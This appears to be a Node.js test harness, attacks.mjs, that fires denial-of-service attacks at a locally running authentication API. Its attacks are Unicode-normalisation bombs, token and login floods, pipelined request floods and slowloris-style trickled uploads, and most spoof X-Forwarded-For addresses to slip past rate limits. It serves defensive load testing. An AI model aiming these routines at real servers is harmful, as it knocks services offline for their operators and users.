// @ts-check
/*
 * One attacker, until it is killed: node attacks.mjs NAME PORT [JSON]. See abuse.ts.
 */
import { randomBytes, randomUUID } from 'node:crypto';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

const [name = '', port = '', parameters = '{}'] = process.argv.slice(2);
const CRLF = '\r\n';
let count = 0;

/**
 * @param {string} method
 * @param {string} path
 * @param {{ body?: string | Buffer, headers?: string[] }} [more]
 */
function request(method, path, { body = '', headers = [] } = {}) {
  const lines = [`${method} ${path} HTTP/1.1`, 'Host: localhost', ...headers];
  if (body.length > 0) {
    lines.push('Content-Type: application/json', `Content-Length: ${Buffer.byteLength(body)}`);
  }
  return Buffer.concat([Buffer.from(lines.join(CRLF) + CRLF + CRLF), Buffer.from(body)]);
}

/**
 * A client that asks again as soon as it has its answer, for ever.
 * @param {() => Buffer} next
 */
async function ask(next) {
  for (;;) {
    await new Promise((resolve) => {
      const socket = connect(Number(port), '127.0.0.1', () => socket.write(next()));
      socket.on('data', () => socket.write(next()));
      socket.on('error', () => undefined);
      socket.on('close', resolve);
    });
    await pause(50);
  }
}

/** @param {number} clients @param {() => Buffer} next */
const askFrom = (clients, next) => Promise.all(Array.from({ length: clients }, () => ask(next)));

/** Of another /48 each time. */
function newNetwork() {
  count += 1;
  return `2001:${(count & 0xffff).toString(16)}:${(count >> 16).toString(16)}::1`;
}

const from = (/** @type {string} */ address) => [`X-Forwarded-For: ${address}`];

/** @type {Record<string, (options: any) => Promise<unknown>>} */
const ATTACKS = {
  /** Marks in two orders, which take quadratic time to normalise. */
  text: () => {
    const displayName = `a${'\u0301\u0316'.repeat(14_000)}`;
    const body = JSON.stringify({ email: 'a@example.com', password: 'x'.repeat(20), displayName });
    return askFrom(4, () =>
      request('POST', '/api/auth/register', { body, headers: from(newNetwork()) }),
    );
  },

  refresh: () =>
    askFrom(3200, () => {
      const refreshToken = `${randomUUID()}.${randomBytes(32).toString('base64url')}`;
      const body = JSON.stringify({ refreshToken });
      return request('POST', '/api/auth/refresh', { body, headers: from(newNetwork()) });
    }),

  /** Bodies that never reach a hash, from the networks of one customer. */
  lockout: () =>
    askFrom(64, () => {
      count += 1;
      const address = `2001:db8:0:${(count % 64).toString(16)}::1`;
      const body = JSON.stringify({ email: `nobody-${count}@example.com`, password: 1 });
      return request('POST', '/api/auth/login', { body, headers: from(address) });
    }),

  hashes: () =>
    askFrom(300, () => {
      const address = newNetwork();
      const body = JSON.stringify({
        email: `nobody-${count}@example.com`,
        password: 'x'.repeat(20),
      });
      return request('POST', '/api/auth/login', { body, headers: from(address) });
    }),

  /** One connection with as much in it as fits. */
  pipeline: async ({ token }) => {
    const one = request('GET', '/api/auth/profile', {
      headers: [`Authorization: Bearer ${token}`],
    });
    const chunk = Buffer.concat(Array.from({ length: Math.floor(65_536 / one.length) }, () => one));
    for (;;) {
      await new Promise((resolve) => {
        const socket = connect(Number(port), '127.0.0.1');
        const write = () => {
          while (!socket.destroyed && socket.write(chunk));
        };
        socket.on('connect', write);
        socket.on('drain', write);
        socket.on('data', () => undefined);
        socket.on('error', () => undefined);
        socket.on('close', resolve);
      });
      await pause(50);
    }
  },

  /** Pictures that come a byte at a time. */
  uploads: async ({ tokens }) => {
    const trickle = async (/** @type {string} */ token, /** @type {string} */ address) => {
      for (;;) {
        await new Promise((resolve) => {
          const socket = connect(Number(port), '127.0.0.1', () => {
            socket.write(
              [
                'POST /api/auth/profile/avatar HTTP/1.1',
                'Host: localhost',
                `Authorization: Bearer ${token}`,
                ...from(address),
                'Content-Type: multipart/form-data; boundary=b',
                'Content-Length: 4000000',
                '',
                '--b',
                'Content-Disposition: form-data; name="avatar"; filename="a.png"',
                'Content-Type: image/png',
                '',
                '',
              ].join(CRLF),
            );
          });
          const timer = setInterval(() => socket.write('x'), 500);
          socket.on('data', () => socket.destroy());
          socket.on('error', () => undefined);
          socket.on('close', () => {
            clearInterval(timer);
            resolve(undefined);
          });
        });
        await pause(20);
      }
    };
    await Promise.all(
      tokens.flatMap((/** @type {string} */ token, /** @type {number} */ index) =>
        Array.from({ length: 8 }, () => trickle(token, `192.0.2.${index}`)),
      ),
    );
  },
};

await ATTACKS[name]?.(JSON.parse(parameters));
